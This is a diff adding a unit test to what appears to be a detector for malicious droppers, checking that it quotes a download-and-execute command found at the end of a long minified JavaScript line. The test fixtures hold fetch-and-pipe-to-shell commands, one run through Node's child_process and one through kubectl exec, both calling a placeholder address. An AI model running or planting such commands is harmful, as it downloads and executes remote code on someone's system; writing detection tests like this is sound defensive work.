@@ -231,6 +231,15 @@ def test_a_concatenated_name_that_is_called_or_a_member_is_left_alone() -> None:
     assert "/tmp/.a(" not in layer.squeezed and "/tmp/.a.x" not in layer.squeezed
 
 
+def test_evidence_on_a_long_line_quotes_what_was_seen() -> None:
+    # A minified script is one line: the quote is cut around the command, not from the start.
+    filler = "".join(f"function f{i}(a){{return a*{i}}};" for i in range(60))
+    text = filler + 'require("child_process").execSync("curl -s http://192.0.2.1/x | sh");'
+    a = dropper.analyse(text, IT, "setup.js")
+    hit = next(s for s in a.behaviours if s.behaviour is B.DOWNLOAD_EXEC).hits[0]
+    assert "curl -s http://192.0.2.1/x | sh" in hit.text and len(hit.text) <= 160
+
+
 def test_kubectl_exec_of_a_fetch_is_container_abuse() -> None:
     snippet = 'kubectl exec -n default $pod -- sh -c "curl -s http://192.0.2.1/k.sh | sh"'
     kinds = {s.behaviour for s in dropper.analyse(snippet, IT).behaviours}
